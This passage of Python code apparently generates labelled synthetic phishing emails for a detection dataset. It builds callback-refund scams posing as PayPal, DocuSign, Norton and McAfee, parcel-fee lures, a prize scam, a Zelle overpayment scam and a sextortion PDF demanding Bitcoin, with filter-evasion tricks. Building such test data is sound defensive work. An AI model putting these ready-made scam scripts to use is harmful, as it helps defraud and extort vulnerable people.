    plain = ("VEHICLE SERVICE CONTRACT - FINAL NOTICE\n\nVehicle: 2019 FORD F-150\nStatus: COVERAGE EXPIRING\n\n"
             "Our records indicate that your vehicle's factory warranty may have expired or is about to expire. "
             "This is your final courtesy notice to activate extended coverage.\n\nCALL TOLL FREE: 1-844-223-6917\n")
    headers = f"""From: Vehicle Services Dept <notices@{dom}>
To: {rcpt}
Subject: FINAL NOTICE: Vehicle Service Contract - 2019 Ford F-150
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 26)}@{dom}>
List-Unsubscribe: <https://{dom}/remove?e={hexs(seed + 'e', 20)}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "car-warranty-final-notice-callback", raw,
        "Extended car-warranty 'final notice' from a snowshoe bulk domain quoting the recipient's vehicle, pushing "
        "a toll-free number that sells fraudulent service contracts.")


@sample
def a_paypal_invoice_norton():
    seed = "a-ppi"
    rcpt = "sharon.meeks64@gmail.com"
    when = T("2025-02-18 06:33:02 -0800")
    ip = "173.0.84." + str(num(seed + "ip", 225, 235))
    helo = rdns = f"mx{num(seed + 'mx', 1, 9)}.phx.paypal.com"
    inv = "INV2-" + "-".join(alnum(seed + f"i{k}", 4).upper() for k in range(4))
    link = f"https://www.paypal.com/invoice/p/#{inv.replace('INV2-', '').replace('-', '')}"
    out = Out(helo, ip, rdns, "service@paypal.com",
              [f"Received: from ccg{num(seed + 'c', 10, 99)}mail{num(seed + 'c2', 10, 30)}.phx.paypal.com "
               f"(ccg{num(seed + 'c', 10, 99)}mail{num(seed + 'c2', 10, 30)}.phx.paypal.com [10.180.{num(seed + 'c3', 1, 250)}.{num(seed + 'c4', 1, 250)}])\n"
               f"\tby {helo} (Postfix) with ESMTP id {HEX(seed + 'pq', 11)}\n\tfor <{rcpt}>; {fmt(when)}"])
    out.sigs = [Sig("paypal.com", "pp-dkim1", ["content-type", "date", "to", "from", "subject", "mime-version",
                                               "message-id"], seed + "ppdk", when, c="relaxed/relaxed")]
    note = ("Thank you for choosing Norton LifeLock. Your subscription for Norton 360 Deluxe (5 devices, 3 years) "
            "has been renewed and $499.99 will be charged to your account within 24 hours. If you did not "
            "authorize this renewal or wish to cancel and receive a refund, please call our billing department "
            "at +1 (808) 219-4476 immediately.")
    html = shell(
        row('<img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/'
            'paypal-rebranding/pp-logo-in-circle-2x.png" width="32" alt="PayPal" />', "24px 32px 6px")
        + row('<p style="font-size:24px;line-height:30px;margin:0;">Norton LifeLock Billing sent you an invoice for '
              '<b>$499.99 USD</b></p>')
        + row(f'<p style="margin:0;color:#6c7378;">Due on receipt</p><p>Invoice number: 0082</p>'
              f'<p style="background:#f5f7fa;padding:12px;"><b>Seller note to customer</b><br>{note}</p>')
        + row(btn(link, "View and Pay Invoice", "#003087"))
        + row('<p style="font-size:12px;color:#6c7378;">Don&#39;t recognize this invoice? Before paying, make sure '
              'you recognize this invoice. If you don&#39;t, report it.</p>'
              '<p style="font-size:11px;color:#6c7378;">PayPal is committed to preventing fraudulent emails. Emails '
              'from PayPal will always contain your full name.<br/>Copyright &copy; 1999-2025 PayPal, Inc. All '
              'rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.</p>'
              f'<p style="font-size:10px;color:#9da3a6;">PayPal RT000238:en_US(en-US):1.3.0:{hexs(seed + "rt", 13)}'
              '</p>'),
        title="PayPal", bg="#f2f2f2")
    plain = (f"Norton LifeLock Billing sent you an invoice for $499.99 USD\n\nDue on receipt\nInvoice number: 0082\n\n"
             f"Seller note to customer\n{note}\n\nView and Pay Invoice: {link}\n\n"
             "Don't recognize this invoice? Before paying, make sure you recognize this invoice.\n\n"
             "Copyright 1999-2025 PayPal, Inc. All rights reserved.\n")
    headers = f"""Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 12)}.{hexs(seed + 'mid2', 8)}@ccg01mail01>
Subject: Invoice from Norton LifeLock Billing (0082)
MIME-Version: 1.0
From: "service@paypal.com" <service@paypal.com>
To: {rcpt}
X-MaxCode-Template: RT000238
X-Email-Type-Id: RT000238
PP-Correlation-Id: {hexs(seed + 'corr', 13)}
X-PP-REQUESTED-TIME: {epoch(when) * 1000}
X-PP-Email-transmission-Id: {hexs(seed + 'tx', 8)}-{hexs(seed + 'tx2', 4)}-11ef-{hexs(seed + 'tx3', 4)}-{hexs(seed + 'tx4', 12)}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="paypal.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "paypal-invoice-norton-callback", raw,
        "Genuine PayPal invoice (paypal.com, all authentication passes) created by a scammer as 'Norton LifeLock "
        "Billing' for $499.99, with a seller note pushing a phone number for 'refunds': callback fraud through a "
        "legitimate platform.")


@sample
def a_geeksquad_pdf():
    seed = "a-gsq"
    rcpt = "lorraine.bishop52@gmail.com"
    when = T("2024-10-29 09:14:40 -0500")
    sender = "hollandmarianne774@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    inv = "GS-" + digits(seed + "inv", 8)
    pdf = files.pdf(["GEEK SQUAD PROTECTION", "Best Buy Co., Inc. | 7601 Penn Ave S, Richfield, MN 55423", "",
                     f"INVOICE #: {inv}", "Date: October 29, 2024", "Customer ID: " + digits(seed + "cid", 9), "",
                     "Product: Geek Squad Total Tech Support (2 Years)", "Devices covered: up to 5",
                     "Qty: 1     Unit price: $389.99     Total: $389.99", "Payment method: Auto-debit", "",
                     "Your membership has been renewed automatically and the amount will",
                     "appear on your statement within 24-48 hours.", "",
                     "If you wish to cancel this renewal or request a refund, please contact",
                     "our billing support within 48 hours:", "",
                     "             +1 (815) 406-2297", "",
                     "Thank you for being a valued Geek Squad member."], title=f"Invoice {inv}")
    plain = ("Hello,\n\nPlease find attached your invoice for the renewal of your Geek Squad membership.\n\n"
             "Regards,\nBilling Team\n")
    html = ('<div dir="ltr">Hello,<div><br></div><div>Please find attached your invoice for the renewal of your '
            'Geek Squad membership.</div><div><br></div><div>Regards,</div><div>Billing Team</div></div>\n')
    headers = f"""MIME-Version: 1.0
From: Ryan Matthews <{sender}>
Date: {fmt(when)}
Message-ID: {gmail_msgid(seed)}
Subject: Invoice #{inv} {lower(seed + 'sfx', 5).upper()}
To: {rcpt}"""
    body = mixed(bnd("gmail", seed + "m"), [alt(plain, html, bnd("gmail", seed + "a")),
                                           attachment("application/pdf", f"INV_{inv}.pdf", pdf)])
    body.parts[1].extra.append(f"X-Attachment-Id: f_m2u{lower(seed + 'att', 6)}0")
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="gmail.com", policy="NONE",
               sp="QUARANTINE", headers=headers, body=body, seed=seed)
    add("phishing", "phish", "geeksquad-renewal-pdf-callback", raw,
        "Geek Squad auto-renewal invoice scam: a throwaway Gmail account sends a bland note with a PDF 'invoice' "
        "for $389.99 whose only payload is a phone number for 'refunds' (refund/remote-access fraud).")


@sample
def a_mcafee_image_only():
    seed = "a-mcf"
    rcpt = "walt.jeffries@aol.com"
    when = T("2025-06-25 22:40:09 -0400")
    dom = "renewalsupportdesk.online"
    out = postfix_out(f"ns{num(seed + 'n', 100, 999)}.{dom}", "172.86.75." + str(num(seed + "ip", 10, 250)),
                      f"info@{dom}", rcpt, when, seed)
    png = render_png([("McAfee Total Protection", 30), ("ORDER CONFIRMATION - AUTO RENEWAL", 70),
                      ("Order ID: MC-" + digits(seed + "o", 9), 110), ("Product: McAfee Total Protection (Family)", 135),
                      ("Term: 3 Years   Devices: 10", 160), ("Amount charged: $449.85", 185),
                      ("Date: 06/25/2025", 210),
                      ("If you did not authorize this charge, call within 24 hours:", 260),
                      ("+1 (877) 310-5589", 290), ("to cancel and get a full refund.", 320)],
                     (560, 380), bars=[(0, 0, 560, 56, (200, 16, 46))], seed=7)
    html = ('<html><body><center><a href="tel:+18773105589"><img src="cid:inv0625@mcf" width="560" height="380" '
            'alt="Order Confirmation" border="0"></a></center></body></html>\n')
    headers = f"""From: "Order Confirmation" <info@{dom}>
To: {rcpt}
Subject: Your Order Has Been Confirmed #{digits(seed + 'o', 9)}
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 30)}@{dom}>
MIME-Version: 1.0"""
    body = related(bnd("x", seed), [Leaf("text/html", html.encode(), "7bit", '; charset="us-ascii"'),
                                    attachment("image/png", "invoice.png", png, inline=True, cid="inv0625@mcf")])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("phishing", "phish", "mcafee-renewal-image-only", raw,
        "Image-only McAfee auto-renewal 'order confirmation' ($449.85) to an AOL user: the body is one embedded "
        "PNG carrying the callback number, no readable text for filters.")


@sample
def a_docusign_bitdefender():
    seed = "a-dsg"
    rcpt = "patricia.nwosu@outlook.com"
    when = T("2025-08-05 12:05:44 -0700")
    env = f"{hexs(seed + 'e1', 8)}-{hexs(seed + 'e2', 4)}-{hexs(seed + 'e3', 4)}-{hexs(seed + 'e4', 4)}-{hexs(seed + 'e5', 12)}"
    ip = "64.207.219." + str(num(seed + "ip", 10, 140))
    helo = rdns = f"mailda.na3.docusign.net"
    out = Out(helo, ip, rdns, "dse_NA3@docusign.net",
              [f"Received: from docusign.net (10.168.{num(seed + 'i', 1, 250)}.{num(seed + 'i2', 1, 250)}) by "
               f"mailda.na3.docusign.net with Microsoft SMTP Server id 8.0.{num(seed + 'b', 100, 999)}.0; {fmt(when)}"])
    out.sigs = [Sig("docusign.net", "mail", ["From", "To", "Subject", "Date", "Message-ID", "Content-Type",
                                            "MIME-Version"], seed + "dk", when)]
    link = f"https://na3.docusign.net/Signing/EmailStart.aspx?a={env}&etti=24&acct={hexs(seed + 'acct', 8)}-{hexs(seed + 'acct2', 4)}-4f3e-{hexs(seed + 'acct3', 4)}-{hexs(seed + 'acct4', 12)}&er={hexs(seed + 'er', 8)}"
    msg = ("Dear Customer, your Bitdefender Total Security subscription has been renewed for $379.99 and will be "
           "debited within 24 hours. Please review and sign the attached invoice. If you did not authorize this "
           "renewal call our cancellation desk at +1 (855) 950-3362.")
    html = ('<html><body style="background:#eaeaea;margin:0;"><table width="100%" cellpadding="0" cellspacing="0">'
            '<tr><td align="center" style="padding:24px;"><table width="640" cellpadding="0" cellspacing="0" '
            'style="background:#fff;font-family:Helvetica,Arial,sans-serif;">'
            '<tr><td style="padding:24px;"><img src="https://na3.docusign.net/Member/Images/email/docusign-logo.png" '
            'width="116" alt="DocuSign" /></td></tr>'
            '<tr><td style="background:#1e4ca1;padding:28px;color:#fff;text-align:center;font-size:16px;">'
            'Bitdefender Billing Department sent you a document to review and sign.<br/><br/>'
            f'<a href="{link}" style="background:#ffc820;color:#333;padding:10px 24px;font-weight:bold;'
            'text-decoration:none;border-radius:2px;">REVIEW DOCUMENT</a></td></tr>'
            '<tr><td style="padding:24px;font-size:15px;color:#333;"><b>Bitdefender Billing Department</b><br/>'
            f'<a href="mailto:bitdefender.billing.dept@gmail.com">bitdefender.billing.dept@gmail.com</a><br/><br/>{msg}'
            '</td></tr><tr><td style="padding:24px;font-size:11px;color:#666;"><b>Do Not Share This Email</b><br/>'
            'This email contains a secure link to Docusign. Please do not share this email, link, or access code '
            'with others.<br/><br/><b>About Docusign</b><br/>Sign documents electronically in just minutes.</td></tr>'
            '</table></td></tr></table></body></html>\n')
    plain = (f"Bitdefender Billing Department sent you a document to review and sign.\n\nREVIEW DOCUMENT: {link}\n\n"
             f"Bitdefender Billing Department\nbitdefender.billing.dept@gmail.com\n\n{msg}\n\nDo Not Share This Email\n")
    headers = f"""Reply-To: Bitdefender Billing Department <bitdefender.billing.dept@gmail.com>
From: Bitdefender Billing Department via Docusign <dse_NA3@docusign.net>
To: Patricia Nwosu <{rcpt}>
Message-ID: <{hexs(seed + 'mid', 32)}@docusign.net>
Date: {fmt(when)}
Subject: Complete with Docusign: Bitdefender_Invoice_BD{digits(seed + 'inv', 7)}.pdf
X-DocuSign-EnvelopeID: {env}
X-Priority: 3
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="docusign.net", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "docusign-bitdefender-invoice-callback", raw,
        "Real DocuSign envelope (docusign.net, authentication passes) sent from a scammer's free account as "
        "'Bitdefender Billing Department', with a $379.99 renewal message and a cancellation phone number.")


@sample
def a_usps_redelivery():
    seed = "a-usps"
    rcpt = "k.henderson.home@icloud.com"
    when = T("2025-11-12 07:28:55 -0600")
    dom = "uspostal-notify.com"
    out = postfix_out(f"mail.{dom}", "154.205.136." + str(num(seed + "ip", 10, 250)), f"tracking@{dom}", rcpt, when,
                      seed)
    link = "https://usps.com-redelivery-ydx.top/us"
    trk = "9400 1118 9922 " + digits(seed + "t", 4) + " " + digits(seed + "t2", 4) + " " + digits(seed + "t3", 2)
    html = ('<html><body style="font-family:Helvetica,Arial,sans-serif;color:#333;">'
            '<div style="max-width:600px;margin:auto;">'
            '<div style="background:#333366;padding:14px 20px;color:#fff;font-size:20px;font-weight:bold;">'
            'USPS.COM</div><div style="padding:20px;border:1px solid #ddd;">'
            f'<p>USPS Tracking&reg; {trk}</p>'
            '<p style="font-size:18px;color:#333366;"><b>Delivery Attempt Failed</b></p>'
            '<p>Your package is at the warehouse. We attempted to deliver it but could not due to an incomplete '
            'address. Please update your address within 24 hours so we can schedule redelivery. A redelivery '
            'fee of $0.30 applies.</p>'
            f'<p><a href="{link}" style="background:#e71921;color:#fff;padding:10px 22px;text-decoration:none;">'
            'Update Address</a></p>'
            '<p style="font-size:11px;color:#777;">Copyright &copy; 2025 USPS. All Rights Reserved.</p>'
            '</div></div></body></html>\n')
    plain = (f"USPS Tracking {trk}\n\nDelivery Attempt Failed\n\nYour package is at the warehouse. We attempted to "
             "deliver it but could not due to an incomplete address. Please update your address within 24 hours. A "
             f"redelivery fee of $0.30 applies.\n\nUpdate Address: {link}\n")
    headers = f"""From: USPS <tracking@{dom}>
To: {rcpt}
Subject: USPS: Delivery attempt failed - update your address
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 20)}@{dom}>
MIME-Version: 1.0"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom=dom, policy="NONE", headers=headers,
               body=alt(plain, html, bnd("x", seed)), seed=seed)
    add("phishing", "phish", "usps-redelivery-fee-top", raw,
        "USPS failed-delivery/redelivery-fee phish to iCloud from an unsigned look-alike domain, linking to a "
        "'usps.com-redelivery-ydx.top' card-harvesting site.")


@sample
def a_fedex_aduana_es():
    seed = "a-fdx"
    rcpt = "jose.luis.barrera@hotmail.com"
    when = T("2025-05-28 16:47:12 -0500")
    sender = "envios@ferreteriaelsolmx.com"
    out = exim_out("s1342.use1.mysecurecloudhost.com", "162.213.255." + str(num(seed + "ip", 10, 250)), sender, rcpt,
                   when, seed, client_ip="181.214.218.9", auth_user=sender)
    out.sigs = [Sig("ferreteriaelsolmx.com", "default", ["Content-Type", "MIME-Version", "Message-ID", "Date",
                                                         "Subject", "To", "From"], seed + "dk", when)]
    link = "https://fedx-seguimiento.github.io/aduana/?guia=" + digits(seed + "g", 12)
    html = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#333;">'
            '<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ddd;">'
            '<tr><td style="padding:16px 20px;"><span style="color:#4d148c;font-size:28px;font-weight:bold;">Fed'
            '</span><span style="color:#ff6200;font-size:28px;font-weight:bold;">Ex</span></td></tr>'
            '<tr><td style="padding:0 20px 20px;"><p style="font-size:18px;"><b>Su env&iacute;o est&aacute; '
            'retenido en aduana</b></p>'
            '<p>N&uacute;mero de gu&iacute;a: ' + digits(seed + "g", 12) + '</p>'
            '<p>Su paquete no puede ser entregado porque hay un impuesto de importaci&oacute;n pendiente de '
            '<b>$2.99 USD</b>. Si no se paga en 48 horas, el paquete ser&aacute; devuelto al remitente.</p>'
            f'<p><a href="{link}" style="background:#4d148c;color:#fff;padding:10px 20px;text-decoration:none;">'
            'Pagar y programar entrega</a></p>'
            '<p style="font-size:11px;color:#888;">&copy; FedEx 1995-2025</p></td></tr></table></body></html>\n')
    headers = f"""Date: {fmt(when)}
To: {rcpt}
From: FedEx Aduanas <{sender}>
Subject: {enc("Su envío está retenido: impuesto pendiente $2.99", "B")}
Message-ID: <{alnum(seed + 'mid', 43)}@ferreteriaelsolmx.com>
X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0"""
    body = Leaf("text/html", html.encode(), "base64", '; charset=utf-8')
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="none", hfrom="ferreteriaelsolmx.com", policy="NONE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "fedex-aduana-github-io-es", raw,
        "Spanish FedEx customs-fee lure ($2.99) sent from a compromised Mexican hardware store's hosting account "
        "to a Hotmail user; the payment page is on github.io.")


@sample
def a_pch_google_forms():
    seed = "a-pch"
    rcpt = "betty.lou.harmon@aol.com"
    when = T("2025-03-27 11:20:33 -0700")
    ip = "209.85.220." + str(num(seed + "ip", 69, 73))
    helo = rdns = f"mail-sor-f{ip.split('.')[-1]}.google.com"
    fid = "1FAIpQLSe" + url64(seed + "fid", 47)
    link = f"https://docs.google.com/forms/d/e/{fid}/viewform?vc=0&c=0&w=1&flr=0&usp=mail_form_link"
    mf = f"3{alnum(seed + 'mf', 20)}@doclist.bounces.google.com"
    out = Out(helo, ip, rdns, mf, [f"Received: by {helo} with SMTP id {hexs(seed + 'sid', 16)};\n"
                                   f"        {pacific(when)}"])
    out.sigs = [Sig("google.com", "20230601", ["reply-to", "mime-version", "message-id", "date", "subject", "from",
                                               "to"], seed + "dk", when)]
    html = ('<html><body style="font-family:Roboto,Arial,sans-serif;background:#f1f3f4;">'
            '<div style="max-width:640px;margin:auto;background:#fff;border-radius:8px;">'
            '<div style="padding:20px;font-size:14px;color:#202124;">'
            'PCH Prize Patrol has invited you to fill out the following form:</div>'
            '<div style="border-top:10px solid #673ab7;padding:20px;">'
            '<div style="font-size:28px;">SuperPrize #11700 - Winner Confirmation</div>'
            '<div style="font-size:14px;margin-top:12px;line-height:20px;">Congratulations! Your entry number '
            'has been selected as a SECOND-PRIZE winner of <b>$850,000.00 and a 2025 Mercedes-Benz</b>. '
            'To release your prize, confirm your mailing address, phone number and date of birth below. A '
            'refundable insurance and delivery fee of $500 must be paid before the Prize Patrol visit. Call '
            'agent Dan Williams at (876) 349-2208 after submitting.</div></div>'
            f'<div style="padding:20px;"><a href="{link}" style="background:#673ab7;color:#fff;padding:10px 24px;'
            'border-radius:4px;text-decoration:none;">FILL OUT IN GOOGLE FORMS</a></div>'
            '<div style="padding:20px;font-size:12px;color:#5f6368;">Never submit passwords through Google Forms.'
            '<br>Google Forms: Create and analyze surveys.</div></div></body></html>\n')
    plain = ("PCH Prize Patrol has invited you to fill out the following form:\n\nSuperPrize #11700 - Winner "
             "Confirmation\n\nCongratulations! Your entry number has been selected as a SECOND-PRIZE winner of "
             "$850,000.00 and a 2025 Mercedes-Benz. A refundable insurance and delivery fee of $500 must be paid "
             "before the Prize Patrol visit. Call agent Dan Williams at (876) 349-2208 after submitting.\n\n"
             f"Fill out form: {link}\n\nNever submit passwords through Google Forms.\n")
    headers = f"""Reply-To: pchprizepatrol.dept11700@gmail.com
MIME-Version: 1.0
Message-ID: <{url64(seed + 'mid', 22)}-{hexs(seed + 'mid2', 6)}@google.com>
Date: {fmt(when.astimezone(UTC))}
Subject: SuperPrize #11700 - Winner Confirmation
From: "PCH Prize Patrol (via Google Forms)" <forms-receipts-noreply@google.com>
To: {rcpt}"""
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="google.com", policy="REJECT",
               headers=headers, body=alt(plain, html, bnd("gmail", seed)), seed=seed)
    add("phishing", "phish", "pch-superprize-google-forms", raw,
        "Publishers Clearing House advance-fee prize scam delivered through Google Forms' 'send form' feature "
        "(google.com, authentication passes) to an AOL senior: $500 'delivery fee', Jamaican callback number, "
        "personal-data form.")


@sample
def a_costco_image_blob():
    seed = "a-cost"
    rcpt = "mike.terranova@gmail.com"
    when = T("2025-08-16 05:12:09 -0400")
    dom = "gsu-rewardsnotify.com"
    out = postfix_out(f"mta{num(seed + 'm', 1, 9)}.{dom}", "45.95.169." + str(num(seed + "ip", 10, 250)),
                      f"bnc@{dom}", rcpt, when, seed)
    out.sigs = [Sig(dom, "mail", ["from", "to", "subject", "date", "message-id"], seed + "dk", when)]
    acct = "cstrwrd" + lower(seed + "acc", 8)
    link = f"https://{acct}.blob.core.windows.net/$web/index.html#/c/{hexs(seed + 'h', 12)}"
    img = f"https://{acct}.blob.core.windows.net/$web/img/costco-ws.jpg"
    html = ('<html><head><meta charset="utf-8"></head><body style="margin:0;">'
            '<div style="display:none;font-size:1px;color:#fff;">Your Costco member reward is waiting '
            '- confirm shipping today.</div>'
            f'<table align="center" width="600"><tr><td><a href="{link}"><img src="{img}" width="600" '
            'alt="Costco Wholesale - Member Appreciation: Claim your reward" style="display:block;border:0;"></a>'
            '</td></tr><tr><td style="font-family:Arial;font-size:10px;color:#999;text-align:center;padding:10px;">'
            f'If you no longer wish to receive these emails, <a href="https://{dom}/o/{hexs(seed + "o", 16)}" '
            'style="color:#999;">click here</a>.<br>PO Box 2024, Draper UT 84020</td></tr></table>'
            '<div style="display:none;font-size:1px;color:#fff;">The smoky harbor lights shimmered while '
            'distant bells counted the hours over quiet hills and sleeping fields of early autumn.</div>'
            '</body></html>\n')
    headers = f"""From: Costco Member Rewards <rewards@{dom}>
To: {rcpt}
Subject: {enc("Mike, your Costco Member Reward is waiting 🎁", "B")}
Date: {fmt(when)}
Message-ID: <{hexs(seed + 'mid', 28)}@{dom}>
MIME-Version: 1.0"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"')
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom=dom, policy="NONE", headers=headers,
               body=body, seed=seed)
    add("phishing", "phish", "costco-reward-image-blob", raw,
        "Image-only Costco 'member reward' survey scam: one remote image linked to an Azure Blob Storage static "
        "site ($web) that leads to a shipping-fee card harvest, with hidden filler text to dilute filters.")


# ============================================================================================
# ATTACKS: person-to-person fraud, compromised accounts, reply chains
# ============================================================================================

@sample
def a_zelle_marketplace():
    seed = "a-zel"
    rcpt = "caleb.fontaine.tx@gmail.com"
    when = T("2025-04-12 18:22:47 -0500")
    sender = "zelle.payment.service@mail.com"
    ip = "74.208.4." + str(num(seed + "ip", 194, 201))
    out = Out(f"mout.gmx.com", ip, "mout.gmx.com", sender,
              [f"Received: from [102.90.{num(seed + 'c', 1, 250)}.{num(seed + 'c2', 1, 250)}] ([102.90.{num(seed + 'c', 1, 250)}.{num(seed + 'c2', 1, 250)}]) by\n"
               f"    web-mail.mail.com (3c-app-mailcom-lxa{num(seed + 'w', 1, 16):02d}.server.lan [10.76.45.{num(seed + 'w2', 1, 99)}])\n"
               f"    (via HTTP); {fmt(when)}"],
              [f"X-Provags-ID: V03:K1:{alnum(seed + 'pv', 52)}", f"UI-OutboundReport: notjunk:1;M01:P0:{alnum(seed + 'ui', 11)}=;{alnum(seed + 'ui2', 40)}"])
    out.sigs = [Sig("mail.com", "s1089575", ["X-UI-Sender-Class", "MIME-Version", "Message-ID", "From", "To",
                                             "Subject", "Content-Type", "Date"], seed + "dk", when, i="zelle.payment.service@mail.com")]
    html = ('<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>'
            '<div style="background:#6d1ed4;color:#fff;font-size:22px;padding:12px 18px;font-family:Arial;">'
            '<b>Zelle</b>&reg;</div><br/>'
            '<div style="font-family:Arial;font-size:14px;">Hello Caleb Fontaine,<br/><br/>'
            'You have received a payment of <b>$650.00</b> from <b>Kimberly Harris</b> for: '
            '&quot;Dining set + 6 chairs (Facebook Marketplace)&quot;.<br/><br/>'
            '<b>STATUS: PENDING</b><br/><br/>'
            'This payment could not be credited because your account is not a Zelle Business account. The limit '
            'for personal accounts has been exceeded. To complete this transaction, the buyer has paid an '
            'additional <b>$300.00</b> for your account upgrade. You are required to refund the $300.00 to the '
            'buyer through Zelle to her registered phone number below, then forward the transaction receipt to '
            'this email.<br/><br/>Buyer Zelle: (469) 502-8813<br/><br/>'
            'Once the upgrade refund is confirmed, the total of <b>$950.00</b> will be deposited into your bank '
            'account immediately.<br/><br/>Thank you for using Zelle.<br/>Zelle Payment Team<br/><br/>'
            '<span style="font-size:10px;color:#777;">&copy; 2025 Early Warning Services, LLC. All rights '
            'reserved.</span></div></div></div></body></html>\n')
    headers = f"""MIME-Version: 1.0
Message-ID: <trinity-{hexs(seed + 'm1', 8)}-{hexs(seed + 'm2', 4)}-{hexs(seed + 'm3', 4)}-{hexs(seed + 'm4', 4)}-{hexs(seed + 'm5', 12)}-{epoch(when) * 1000 + 422}@3c-app-mailcom-lxa{num(seed + 'w', 1, 16):02d}>
From: "Zelle" <{sender}>
To: {rcpt}
Subject: Zelle Payment Notification - $650.00 (Pending)
Date: {fmt(when)}
Importance: normal
Sensitivity: Normal
X-Priority: 3
X-UI-Message-Type: mail
X-UI-Sender-Class: {hexs(seed + 'uis', 8)}-{hexs(seed + 'uis2', 4)}-{hexs(seed + 'uis3', 4)}-{hexs(seed + 'uis4', 4)}-{hexs(seed + 'uis5', 12)}"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset=UTF-8')
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="mail.com", policy="QUARANTINE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "zelle-marketplace-upgrade-refund", raw,
        "Facebook Marketplace seller scam: a fake Zelle 'pending payment' from a free mail.com account claims the "
        "buyer overpaid for a 'business upgrade' and asks the seller to send $300 back by Zelle.")


@sample
def a_sextortion_house_photo():
    seed = "a-sxt"
    rcpt = "ron.haskins@comcast.net"
    when = T("2024-07-09 04:52:16 -0400")
    sender = "vmsnkgreta3381@outlook.com"
    out = outlookcom_out(sender, when, seed)
    mh = m365_headers(seed, when, consumer=True)
    from PIL import Image
    photo = Image.open(io.BytesIO(files.photo_jpeg(31, (320, 200)))).convert("L")
    buf = io.BytesIO()
    photo.save(buf, "JPEG", quality=60)
    jpg = buf.getvalue()
    lines = ["Ronald,", "", "I know that calling 412 Birchwood Ln, Downingtown PA 19335 is convenient for you.",
             "Nice place. Is this your house? (see below)", ""]
    stream_lines = ["BT", "/F1 11 Tf", "14 TL", "56 780 Td"] + [f"({files._pdf_escape(t)}) Tj T*" for t in lines] + \
        ["ET", "q 320 0 0 200 56 480 cm /Im1 Do Q", "BT", "/F1 11 Tf", "14 TL", "56 450 Td"]
    more = ["I have been watching you for a while through a Pegasus spyware installed on your",
            "device when you visited some adult websites. I have videos of you and a list of",
            "all your contacts. Send $1,950 in Bitcoin to the address below within 24 hours:",
            "", "bc1qx7v0ylk5mrcw9h6d2ttf3g0z3ny8s4kqd6e4ah", "",
            "Once I receive the payment I will delete everything. If not, the videos go to",
            "every contact, your family and your coworkers. Don't go to the police."]
    stream_lines += [f"({files._pdf_escape(t)}) Tj T*" for t in more] + ["ET"]
    objects = files.image_page("\n".join(stream_lines).encode("latin-1"), jpg, 320, 200, "DCTDecode")
    objects.append(b"<< /Producer (iLovePDF) /CreationDate (D:20240709043000Z) >>")
    pdf = files.pdf_file(objects, len(objects))
    plain = ("Ronald,\n\nI know 412 Birchwood Ln is your address. Open the attached file, it is about you. "
             "You have 24 hours.\n")
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            '<div style="font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;">Ronald,<br><br>I know 412 '
            'Birchwood Ln is your address. Open the attached file, it is about you. You have 24 hours.</div>'
            '</body></html>\n')
    headers = f"""From: Greta V <{sender}>
To: "ron.haskins@comcast.net" <{rcpt}>
Subject: Ronald Haskins, 412 Birchwood Ln
Thread-Topic: Ronald Haskins, 412 Birchwood Ln
Thread-Index: {mh['thread_index']}
Date: {fmt(when)}
Message-ID: {mh['msgid']}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
MIME-Version: 1.0"""
    body = mixed(bnd("outlook", seed + "m"), [alt(plain, html, bnd("outlook", seed + "a")),
                                             attachment("application/pdf", "Ronald_Haskins.pdf", pdf)])
    raw = ship(out, rcpt=rcpt, when=when, spf="pass", dmarc="pass", hfrom="outlook.com", policy="NONE",
               headers=headers, body=body, seed=seed)
    add("phishing", "phish", "sextortion-house-photo-pdf", raw,
        "Sextortion with the victim's name, street address and a 'photo of your house' in a PDF, demanding $1,950 "
        "in Bitcoin; sent from a free Outlook.com account to a Comcast subscriber.")


@sample
def a_crypto_task_job():
    seed = "a-job"
    rcpt = "destiny.m.harper@gmail.com"
    when = T("2025-10-06 13:37:21 -0400")
    sender = "careers.talentteam.hr@gmail.com"
    out = gmail_out(sender, rcpt, when, seed)
    plain = ("Hi Destiny,\n\nI'm Olivia from the recruitment team at Catalyst Digital Partners. We found your resume "
             "on Indeed and we think you would be a great fit for our remote Online Product Evaluator position.\n\n"
             "- Fully remote, flexible hours (60-90 minutes per day)\n- $300 to $800 per day plus weekly bonus\n"
             "- No experience required, training provided\n- Payment in USD or USDT\n\n"
